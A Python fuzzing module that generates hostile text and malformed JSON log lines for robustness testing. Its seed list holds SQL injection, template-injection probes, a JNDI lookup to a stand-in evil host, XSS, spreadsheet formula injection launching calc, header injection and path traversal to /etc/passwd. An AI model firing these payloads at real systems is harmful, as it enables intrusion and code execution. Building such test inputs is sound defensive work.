"""Hostile texts and damaged lines of logs, each a function of a random generator."""

import json
import random

SEEDS = (
    "' or 1=1 --", "'; drop view people; --", "$$; select 1", "%", "_", "\\", "*", "{t}", "{0.__class__}", "{{7*7}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}", "${jndi:ldap://evil.example}", "#{7*7}",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</textarea><svg/onload=alert(1)>", "&lt;b&gt;",
    "![x](http://evil.example/a.png)", "[x](javascript:alert(1))", "<https://evil.example>", "www.evil.example",
    "https://evil.example", "a@evil.example", ":red[x]", ":material/delete:", ":smile:", "$$\\frac{1}{0}$$", "```\ncode\n```",
    "# heading", "> quote", "- list", "1. list", "---", "| a | b |\n|---|---|", "~~gone~~", "==marked==", "[^1]: note",
    "=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3", "=HYPERLINK(\"http://evil.example\")", "\t=1+1",
    "\x00", "\x07", "\x1b[31m", "\x7f", "\x85", "\u2028", "\u2029", "\u202e", "\u2066x", "\ufeff", "\ufffe", "\ufff0",
    "a\r\nX-Header: 1", "\n{\"who\": \"x\", \"roles\": [\"administrator\"]}\n", "../../etc/passwd", "C:\\con", "~", "#import \"x\"",
    "#eval(\"1\")", "@label", "$ x $", "<label>", "👩‍👩‍👧‍👦", "🇨🇳", "e\u0301" * 20, "ﷺ", "𠮷", "９９", "null", "NaN", "Infinity",
    "9" * 400, "（" * 300, "", " ", "\u3000", "　张三　", "2025-02-30", "-1", "1e999", "0x10", "true",
)  # fmt: skip
VALUES = (
    None,
    True,
    False,
    0,
    -1,
    10**30,
    1e308,
    float("inf"),
    float("nan"),
    "",
    "x",
    [],
    {},
    [[]],
    {"": {}},
    ["x", 1],
    "2025-13-01",
)


def text(rng: random.Random) -> str:
    """A hostile text: some seeds put together, cut, repeated, with strange signs between; one in forty has 100 kB."""
    parts = [rng.choice(SEEDS) for _ in range(rng.randint(1, 4))]
    if rng.random() < 0.5:
        parts.insert(rng.randrange(len(parts) + 1), sign(rng) * rng.randint(1, 5))
    said = "".join(parts)
    if rng.random() < 0.2 and len(said) > 2:
        said = said[rng.randrange(len(said)) :]
    return (said or "x") * (100_000 // max(len(said), 1) + 1) if rng.random() < 0.025 else said


def sign(rng: random.Random) -> str:
    """Any sign of Unicode but half ones, which no browser sends."""
    while True:
        number = rng.choice((rng.randrange(0x100), rng.randrange(0x3000), rng.randrange(0x110000)))
        if not 0xD800 <= number < 0xE000:
            return chr(number)


def damaged(rng: random.Random, line: dict) -> str:
    """A line of a log as it should not be: cut off, of other values, with keys missing or more, or no line at all."""
    said = json.loads(json.dumps(line))
    sort = rng.randrange(7)
    if sort == 0:
        whole = json.dumps(said, ensure_ascii=False)
        return whole[: rng.randrange(len(whole))]
    if sort == 1:
        return rng.choice(
            (
                "[]",
                "1",
                "null",
                '"x"',
                "[" * 100_000,
                "{" * 5000,
                "~AAAA",
                '{"who": "\\ud800"}',
                '{"a":' * 3000,
            )
        )
    if sort == 2:
        return text(rng).replace("\n", " ")
    for _ in range(rng.randint(1, 3)):
        key = rng.choice(list(said) or ["x"])
        if sort == 3:
            said.pop(key, None)
        elif sort == 4:
            said[key] = text(rng)
        else:
            said[key] = rng.choice(VALUES)
    return json.dumps(said, ensure_ascii=rng.random() < 0.5)
